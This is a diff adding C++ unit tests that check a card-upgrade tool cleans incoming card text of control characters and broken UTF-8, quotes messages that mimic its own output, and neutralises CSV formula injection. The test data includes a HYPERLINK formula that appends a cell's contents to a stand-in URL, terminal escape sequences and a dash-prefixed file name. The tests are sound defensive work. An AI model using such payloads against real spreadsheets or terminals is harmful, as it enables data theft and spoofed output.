@@ -7,6 +7,7 @@
 #include <functional>
 #include <map>
 
+#include "protocol/packet.h"
 #include "upgrade/verify.h"
 
 namespace {
@@ -169,6 +170,72 @@ TEST(Outcome, EachRendersItsLineWordsAndColumn) {
   skipped.outcome = CardOutcome::skipped_version;
   skipped.version_before = 0x0105;
   EXPECT_EQ(report_message(skipped), "Skipped : version 1.05 .");
+}
+
+// A card's text arrives as bytes in any state; what is shown is UTF-8 with
+// no control character left, cut on a character boundary.
+TEST(CardText, CleanedOfControlsAndBrokenSequences) {
+  const std::string fffd = "\xEF\xBF\xBD";
+  struct Case {
+    std::string sent, shown;
+  } cases[] = {
+      {"Flash write error !", "Flash write error !"},
+      {"a\r\nb\tc\x7f" "d", "a  b c d"},                          // C0 and DEL
+      {"\xC2\x9B" "31m red \xC2\x85" "x \xC2\x80", " 31m red  x  "},  // C1 as UTF-8
+      {"caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x94\xA5", "caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x94\xA5"},
+      {"\x9B" "2J", fffd + "2J"},                                  // a lone C1 byte
+      {"\xE9t\xE9", fffd + "t" + fffd},                            // Latin-1, not UTF-8
+      {"\xC0\xAF \xE0\x80\xAF", fffd + fffd + " " + fffd + fffd + fffd},  // overlong
+      {"\xED\xA0\x80", fffd + fffd + fffd},                        // a surrogate
+      {"\xF4\x90\x80\x80", fffd + fffd + fffd + fffd},            // past U+10FFFF
+      {"cut \xE2\x82", "cut " + fffd + fffd},                      // ends inside one
+      {"\xE2\x80\xAE" "KO \xE2\x80\xA8" "x", " KO  x"},            // direction, line marks
+  };
+  for (const Case& c : cases) EXPECT_EQ(report_safe_text(c.sent), c.shown) << c.sent;
+
+  std::string euros;
+  for (int i = 0; i < 300; ++i) euros += "\xE2\x82\xAC";
+  std::string cut;
+  for (int i = 0; i < 197; ++i) cut += "\xE2\x82\xAC";
+  EXPECT_EQ(report_safe_text(euros), cut + "...");  // characters, not bytes
+  EXPECT_EQ(report_safe_text(euros.substr(0, 600)), euros.substr(0, 600));  // the limit itself
+}
+
+TEST(CardText, MessagesThatReadLikeTheProgramsOwnAreQuoted) {
+  const char* quoted[] = {"OK.", "ok", "  OK, checking ...", "Timeout.", "TIMEOUT",
+                          "User Aborted !", "No connection , abort.", "Skipped : version 9.99 .",
+                          "applied 1.05 in 3 s", "Not applied: 1.00", "Socket Error !",
+                          "Out of memory", "Image too large for the card", "No session",
+                          "no answer", "Card error: \"x\"", "Report saved: C:\\x.csv"};
+  for (const char* m : quoted)
+    EXPECT_EQ(card_message_text(m), "Card error: \"" + std::string(m) + "\"") << m;
+  for (const char* m : {"Flash write error !", "Wrong password", "", "   ", "Bad OK."})
+    EXPECT_EQ(card_message_text(m), m) << m;
+
+  // Every text the program itself puts after an address, fed back as a
+  // card's message, is quoted: the word list follows the outcomes.
+  for (int o = 0; o <= static_cast<int>(CardOutcome::skipped_version); ++o) {
+    CardResult own;
+    own.outcome = static_cast<CardOutcome>(o);
+    own.version_before = own.answered_version = 0x0105;
+    if (own.outcome == CardOutcome::card_error) continue;
+    for (const std::string& text : {report_message(own), result_column_text(own)})
+      EXPECT_EQ(card_message_text(text).rfind("Card error: ", 0), 0u) << text;
+  }
+
+  // The report line, the Result column and the CSV cell alike.
+  Report report;
+  report_card(&report, "10.69.0.5", text_to_ip("10.69.0.5"), CardOutcome::card_error, "OK.", 0);
+  EXPECT_EQ(report.text, "10.69.0.5 Card error: \"OK.\"\r\n");
+  CardResult card = report_cards(&report).at(0);
+  EXPECT_EQ(result_column_text(card), "Card error: \"OK.\"");
+  EXPECT_NE(report_csv({card}).find(",card_error,\"Card error: \"\"OK.\"\"\","), std::string::npos);
+
+  // The card's message and the image's path are text from outside.
+  card.message = "=HYPERLINK(\"http://x\"&A1,\"Wrong password - click\")";
+  card.image = "-x.bin";
+  EXPECT_NE(report_csv({card}).find(",'-x.bin,"), std::string::npos);
+  EXPECT_NE(report_csv({card}).find(",\"'=HYPERLINK("), std::string::npos);
 }
 
 }  // namespace
